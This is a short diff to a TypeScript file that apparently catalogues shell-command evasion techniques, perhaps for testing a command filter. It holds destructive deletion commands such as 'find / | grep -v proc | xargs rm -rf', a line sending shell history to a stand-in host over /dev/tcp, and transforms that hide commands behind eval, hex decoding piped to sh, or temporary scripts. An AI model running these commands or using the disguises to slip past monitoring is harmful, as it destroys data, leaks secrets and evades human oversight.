@@ -118,4 +118,14 @@ export const following: Techniques = {
     _ => "rg --files ~ | xargs rm -f",
     _ => "history > /dev/tcp/x.test/9",
   ],
+  "names and words on their way": [
+    c => (single(c) ? `eval set -- ${c}; eval '"$@"'` : c),
+    c => `while getopts p: o -p ${program(c)}; do $OPTARG ${rest(c)}; done`,
+    c => `echo ${hex(c, "")} | while read -rn2 h; do printf "\\x$h"; done | sh`,
+    c => `echo ${q(c)} > job.sh; for s in ./*.sh; do "$s"; done`,
+    c => `echo ${q(c)} > job; sed -n p job | sh`,
+    _ => "find / -type f -printf '%p\\n' | xargs rm",
+    _ => "find / | grep -v proc | xargs rm -rf",
+    _ => "find ~ -type f | sed 's/.*/\"&\"/' | xargs rm",
+  ],
 };
